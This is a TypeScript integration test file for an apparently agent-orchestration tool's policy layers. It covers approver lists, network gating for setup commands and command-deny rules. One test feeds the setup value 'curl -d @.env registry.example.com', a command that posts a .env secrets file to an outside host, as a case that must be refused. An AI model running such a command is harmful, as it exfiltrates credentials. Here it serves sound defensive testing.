import { randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { expect, inject, onTestFinished, test } from 'vitest';
import type { StartInput } from '../../src/core/decisions/messages.ts';
import { agentQueries, refactorQueries, updates } from '../../src/workflows/messages.ts';
import { Keys, plainKeys } from '../core/signers.ts';
import type { Crew, Script } from './harness.ts';
import { recordHistories } from './record.ts';
import {
  approve,
  approveAll,
  ask,
  finish,
  git,
  makeRepository,
  onePlan,
  planned,
  shell,
  startCrew,
  until,
} from './harness.ts';

const ONE_TASK: Script = ({ task, turn }) => {
  if (task === 'plan') return planned(onePlan({ id: 'a', paths: ['a/**'] }));
  return turn === 0 ? shell('echo new > a/new.txt') : finish();
};

async function policies(files: Record<string, string>): Promise<{ env: { COXSWAIN_POLICIES: string } }> {
  const folder = await mkdtemp(join(tmpdir(), 'coxswain-policies-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  await mkdir(join(folder, 'teams'));
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
  return { env: { COXSWAIN_POLICIES: folder } };
}

const REPOSITORY = { 'a/one.txt': 'one\n', '.coxswain/policy.yaml': 'version: 1\ndefaults:\n  maxParallelAgents: 2\n' };

test('layers of organisation, team, repository and run make the policy, and the query says where each field came from', async () => {
  const files = {
    'organisation.yaml': 'version: 1\nlimits:\n  maxParallelAgents: 3\n',
    'teams/core.yaml': 'version: 1\ndefaults:\n  protectedPaths: [secrets/**]\n',
  };
  const crew = await startCrew(ONE_TASK, await policies(files));
  const run = { policy: { gates: { scope: 'deny' as const } }, team: 'core' };
  const handle = await crew.start({ repository: await makeRepository(REPOSITORY), ...run });
  await until(handle, ({ needs }) => needs.length > 0);
  expect(await handle.query(refactorQueries.policy)).toMatchObject({
    maxParallelAgents: { value: 2, from: 'repository' },
    protectedPaths: { value: ['secrets/**'], from: 'team' },
    gates: { scope: { value: 'deny', from: 'run' }, plan: { value: 'ask', from: 'built-in' } },
  });
  await approveAll(handle);
});

test('a base does not choose the approvers: limits of the default branch count too, and a commit of a fork is no base', async () => {
  const crew = await startCrew(ONE_TASK);
  const lists = (name: string): string =>
    `version: 1\nlimits:\n  decisions:\n    approvers:\n      - { name: ${name}, publicKey: "${keys.approver(name).publicKey}" }\n`;
  const keys = new Keys(plainKeys);
  const repository = await makeRepository({ 'a/one.txt': 'one\n', '.coxswain/policy.yaml': lists('ann') });
  await git(repository, 'checkout', '-q', '-b', 'theirs');
  await writeFile(join(repository, '.coxswain/policy.yaml'), lists('mallory'));
  await git(repository, 'commit', '-q', '-a', '-m', 'theirs');
  const fork = await git(repository, 'rev-parse', 'HEAD');
  await git(repository, 'update-ref', 'refs/pull/7/head', fork);
  await git(repository, 'checkout', '-q', 'main');
  const byBranch = await crew.start({ repository, base: 'theirs' });
  await expect(byBranch.result()).rejects.toMatchObject({
    cause: {
      message: expect.stringContaining('a plan needs 1 approval, and only these approvers may decide it: none'),
    },
  });
  await git(repository, 'branch', '-q', '-D', 'theirs');
  const byCommit = await crew.start({ repository, base: fork });
  await expect(byCommit.result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining('in no branch and no tag') },
  });
  const own = await crew.start({ repository });
  const { needs } = await until(own, (now) => now.needs.length > 0);
  expect(needs).toMatchObject([{ id: 'plan@1', mayDecide: ['ann'] }]);
  await own.executeUpdate(updates.stop, { args: [{}] });
});

test('a worker without the policies of the organisation does not start a run that names a team, nor adopt for one that began under them', async () => {
  const { env } = await policies({ 'organisation.yaml': 'version: 1\nlimits:\n  maxParallelAgents: 3\n' });
  const folder = env.COXSWAIN_POLICIES;
  const crew = await startCrew(ONE_TASK, { env });
  const repository = await makeRepository();
  const handle = await crew.start({ repository });
  await until(handle, ({ needs }) => needs.length > 0);
  await rename(folder, `${folder}-elsewhere`);
  const adopted = await handle.executeUpdate(updates.adoptPolicy, { args: [{ by: 'ann' }] });
  expect(adopted).toMatchObject({ kind: 'refused', detail: expect.stringContaining('no organisation.yaml') });
  await expect((await crew.start({ repository, team: 'core' })).result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining('COXSWAIN_POLICIES') },
  });
  await rename(`${folder}-elsewhere`, folder);
  await expect((await crew.start({ repository, team: 'core' })).result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining('team "core" has no file teams/core.yaml') },
  });
  await handle.executeUpdate(updates.stop, { args: [{}] });
});

test('a run that is looser than its organisation, and a repository with a fault in its file, do not start', async () => {
  const files = { 'organisation.yaml': 'version: 1\nlimits:\n  gates:\n    commands: ask\n  maxParallelAgents: 1\n' };
  const crew = await startCrew(ONE_TASK, await policies(files));
  const loose = await crew.start({ repository: await makeRepository({ a: 'x' }), policy: { maxParallelAgents: 2 } });
  await expect(loose.result()).rejects.toMatchObject({
    cause: {
      type: 'PrepareFailed',
      message: 'policy.maxParallelAgents: 2 is looser than the limit 1 of the organisation layer',
    },
  });
  const faulty = await makeRepository({ '.coxswain/policy.yaml': 'version: 1\nlimits:\n  colour: red\n' });
  await expect((await crew.start({ repository: faulty })).result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining('.coxswain/policy.yaml:3:') },
  });
  expect(crew.model.requests).toEqual([]);
});

test("a start's own input opens no network for its setup, until a person says so at the worker's terminal", async () => {
  const crew = await startCrew(ONE_TASK);
  const repository = await makeRepository();
  const policy = { network: { setup: { hosts: ['registry.example.com'] } } };
  await expect((await crew.start({ repository, setup: 'true', policy })).result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining("can't open the network") },
  });
  // The same words by the command line, in the worker's state folder.
  const id = `test-${randomUUID().slice(0, 8)}`;
  const program = fileURLToPath(new URL('../../src/cli.ts', import.meta.url));
  const words = [
    'run',
    repository,
    'do it',
    '--id',
    id,
    '--setup',
    'true',
    '--network-for-setup',
    'registry.example.com',
  ];
  const env = {
    COXSWAIN_STATE: crew.stateDir,
    COXSWAIN_TASK_QUEUE: crew.taskQueue,
    TEMPORAL_ADDRESS: inject('temporalAddress'),
  };
  await execa(process.execPath, [program, ...words, '--detach'], { env });
  const handle = crew.client.workflow.getHandle(id);
  await until(handle, ({ needs }) => needs.length > 0);
  expect(await handle.query(refactorQueries.policy)).toMatchObject({
    network: { setup: { value: policy.network.setup, from: 'run' } },
  });
  const { input: of } = (await handle.fetchHistory()).events?.[0]?.workflowExecutionStartedEventAttributes ?? {};
  const said = JSON.parse(Buffer.from(of?.payloads?.[0]?.data ?? []).toString()) as StartInput;
  expect(said).toMatchObject({ repository, goal: 'do it', setup: 'true', policy });
  await handle.terminate();
  // What was said counts for that start alone: not for another one under the same id either, whatever differs in it.
  for (const other of [
    { id: `${id}-2` },
    { policy: { network: { setup: true as const } } },
    { setup: 'curl -d @.env registry.example.com' },
  ]) {
    const { id: workflowId = id, ...changed } = { ...said, ...other } as StartInput & { id?: string };
    const started = await crew.client.workflow.start('refactor', {
      taskQueue: crew.taskQueue,
      workflowId,
      args: [changed],
    });
    await expect(started.result()).rejects.toMatchObject({
      cause: { message: expect.stringContaining("can't open the network") },
    });
  }
});

test('a worker may let runs open the network for their setups, to hosts of its choice', async () => {
  const crew = await startCrew(ONE_TASK, { env: { COXSWAIN_SETUP_NETWORK: 'registry.example.com, *.example.org' } });
  const repository = await makeRepository();
  const start = async (...hosts: string[]): ReturnType<Crew['start']> =>
    await crew.start({ repository, setup: 'true', policy: { network: { setup: { hosts } } } });
  const within = await start('a.example.org', 'registry.example.com');
  await until(within, ({ needs }) => needs.length > 0);
  await approveAll(within);
  await expect((await start('evil.example.net')).result()).rejects.toMatchObject({
    cause: { message: expect.stringContaining('COXSWAIN_SETUP_NETWORK') },
  });
});

test("the repository's layer is that of the base commit, whatever the working copy says", async () => {
  const crew = await startCrew(ONE_TASK);
  const repository = await makeRepository(REPOSITORY);
  await writeFile(join(repository, '.coxswain/policy.yaml'), 'version: 1\ndefaults:\n  maxParallelAgents: 9\n');
  const handle = await crew.start({ repository });
  await until(handle, ({ needs }) => needs.length > 0);
  expect(await handle.query(refactorQueries.policy)).toMatchObject({ maxParallelAgents: { value: 2 } });
  expect(await git(repository, 'status', '--porcelain')).toContain('policy.yaml');
  await approveAll(handle);
});

test('a path that policy protects is asked about, even where the approved plan names it', async () => {
  const crew = await startCrew(
    ONE_TASK,
    await policies({ 'organisation.yaml': 'version: 1\nlimits:\n  protectedPaths: [a/new*]\n' }),
  );
  const handle = await crew.start({ repository: await makeRepository() });
  await approve(handle, 'plan@1');
  const { needs } = await until(handle, (now) => now.needs.some(({ kind }) => kind === 'outside'));
  expect(needs).toMatchObject([{ id: 'a/outside@1', about: expect.stringContaining('a/new.txt') }]);
  await approve(handle, 'a/outside@1');
  await approve(handle, 'delivery@1');
  await expect(handle.result()).resolves.toMatchObject({ outcome: 'done' });
});

test('a changed policy is adopted when somebody asks, by the refactor and by the agents that run; the answer says what changed', async () => {
  const script: Script = ({ task, turn }) => {
    if (task === 'plan') return planned(onePlan({ id: 'a', paths: ['a/**'] }));
    return turn === 0 ? ask('go on?') : turn === 1 ? shell('deploy x; echo new > a/new.txt') : finish();
  };
  const { env } = await policies({ 'organisation.yaml': 'version: 1\nlimits:\n  maxParallelAgents: 3\n' });
  const crew = await startCrew(script, { env });
  const handle = await crew.start({ repository: await makeRepository(REPOSITORY) });
  await approve(handle, 'plan@1');
  await until(handle, ({ needs }) => needs.some(({ kind }) => kind === 'question'));
  const adopt = async () => await handle.executeUpdate(updates.adoptPolicy, { args: [{ by: 'ann' }] });
  const organisation = join(env.COXSWAIN_POLICIES, 'organisation.yaml');
  expect(await adopt()).toMatchObject({ kind: 'applied', detail: 'nothing has changed' });
  await writeFile(organisation, 'version: 1\nlimits:\n  maxParallelAgents: none\n');
  expect(await adopt()).toMatchObject({ kind: 'refused', detail: expect.stringContaining('organisation.yaml:3:') });
  const rule = `{ id: no-deploy, effect: deny, programs: [deploy], reason: people do, match: [deploy x], notMatch: [] }`;
  await writeFile(organisation, `version: 1\nlimits:\n  task:\n    maxFiles: 5\n  rules:\n    commands: [${rule}]\n`);
  const { kind, detail } = await adopt();
  expect({ kind, detail }).toMatchObject({
    kind: 'applied',
    detail: expect.stringContaining('task.maxFiles: 1000000 → 5 (organisation)'),
  });
  expect(detail).toContain('rules.commands: [] → ');
  expect(await handle.query(refactorQueries.policy)).toMatchObject({ task: { maxFiles: { value: 5 } } });
  const agent = crew.client.workflow.getHandle(`${handle.workflowId}/a.1`);
  await expect
    .poll(() => agent.query(agentQueries.policy))
    .toMatchObject({
      rules: { commands: { value: [{ id: 'no-deploy' }], from: 'organisation' } },
    });
  await handle.executeUpdate(updates.answer, { args: [{ text: 'yes' }] });
  // The denied command left nothing, so there is nothing to deliver.
  await expect(handle.result()).rejects.toMatchObject({ cause: { type: 'NothingChanged' } });
  expect(crew.model.requests.at(-1)?.items.at(-1)).toMatchObject({
    output: expect.stringContaining('rule no-deploy (organisation)'),
  });
  const { workflowId } = handle;
  await recordHistories({ 'v0.2-refactor-adopted': workflowId, 'v0.2-agent-adopted': `${workflowId}/a.1` });
});
